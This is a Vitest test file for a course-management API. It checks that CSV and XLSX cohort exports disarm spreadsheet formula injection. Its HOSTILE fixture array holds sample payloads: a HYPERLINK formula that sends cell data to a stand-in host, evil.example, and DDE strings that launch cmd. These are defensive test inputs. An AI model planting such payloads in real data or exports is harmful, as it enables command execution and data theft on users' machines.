import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTestContext, type TestContext } from '../support/context.js';
import { bearer, seedOrg } from '../support/fixtures.js';
import { makePeople } from '../support/roster-files.js';

const shipped = JSON.parse(
  readFileSync(new URL('../../curricula/orientasi-pppk.json', import.meta.url), 'utf8'),
) as Record<string, unknown>;

// Names and units a hostile admin of another unit, or the participants themselves, might enter.
const HOSTILE = [
  { name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")', unit: "+cmd|' /C calc'!A0" },
  { name: "@SUM(1+1)*cmd|' /C calc'!A0", unit: '-2+3' },
  { name: 'Budi =1+1', unit: '=1+1' },
];

function binary(res: NodeJS.ReadableStream, done: (err: Error | null, body: unknown) => void) {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
}

let ctx: TestContext;
let admin: { Authorization: string };
let cohortId: string;

beforeAll(async () => {
  ctx = await createTestContext();
  const org = await seedOrg(ctx, await ctx.platformAdminToken(), 'KAB-CSV');
  admin = bearer(org.admin.token);
  const courseId = (await ctx.http.post('/v1/courses/import?publish=true').set(admin).send(shipped)).body.courseId;
  cohortId = (await ctx.http.post('/v1/cohorts').set(admin).send({ courseId, code: 'CSV-1', name: 'CSV' })).body.id;
  await ctx.http
    .put(`/v1/cohorts/${cohortId}/phases`)
    .set(admin)
    .send({
      phases: [{ kind: 'online', name: 'MOOC', startDate: '2024-10-23', endDate: '2024-11-08', requiredJp: 45 }],
    })
    .expect(200);
  const people = makePeople(HOSTILE.length, 777);
  for (const [i, h] of HOSTILE.entries()) {
    await ctx.http
      .post(`/v1/cohorts/${cohortId}/enrollments`)
      .set(admin)
      .send({ nip: people[i]!.nip, name: h.name, unit: h.unit })
      .expect(201);
  }
});
afterAll(() => ctx.close());

function cells(text: string): Array<Record<string, string>> {
  return parse(text, { bom: true, columns: true }) as Array<Record<string, string>>;
}

function expectDisarmed(value: string | undefined, original: string) {
  // A leading apostrophe: the spreadsheet shows the text, it never evaluates it.
  if (/^[=+\-@]/.test(original)) expect(value).toBe(`'${original}`);
  else expect(value).toBe(original);
}

describe('CSV exports never carry a live formula', () => {
  test('report, progress and activation-code CSVs prefix cells that start a formula', async () => {
    const report = cells((await ctx.http.get(`/v1/cohorts/${cohortId}/report?format=csv`).set(admin).expect(200)).text);
    const progress = cells(
      (await ctx.http.get(`/v1/cohorts/${cohortId}/progress?format=csv`).set(admin).expect(200)).text,
    );
    const codes = cells((await ctx.http.get(`/v1/cohorts/${cohortId}/activation-codes`).set(admin).expect(200)).text);
    for (const table of [report, progress, codes]) {
      expect(table).toHaveLength(HOSTILE.length);
      for (const row of table) {
        for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    for (const h of HOSTILE) {
      const nameColumn = (t: Array<Record<string, string>>) => t.map((r) => r.Nama ?? r.nama ?? r.name);
      for (const table of [report, progress, codes]) {
        expectDisarmed(
          nameColumn(table).find((n) => n?.includes(h.name.slice(1, 10))),
          h.name,
        );
      }
      expectDisarmed(progress.find((r) => r['Unit Kerja']?.includes(h.unit.slice(1)))?.['Unit Kerja'], h.unit);
    }
  });

  test('the XLSX report keeps the text as text: no cell is a formula', async () => {
    const res = await ctx.http
      .get(`/v1/cohorts/${cohortId}/report?format=xlsx`)
      .set(admin)
      .buffer(true)
      .parse(binary as never)
      .expect(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as Parameters<typeof book.xlsx.load>[0]);
    const values: unknown[] = [];
    book.getWorksheet('Peserta')!.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        values.push(cell.value);
      }),
    );
    for (const h of HOSTILE) expect(values).toContain(h.name);
  });
});
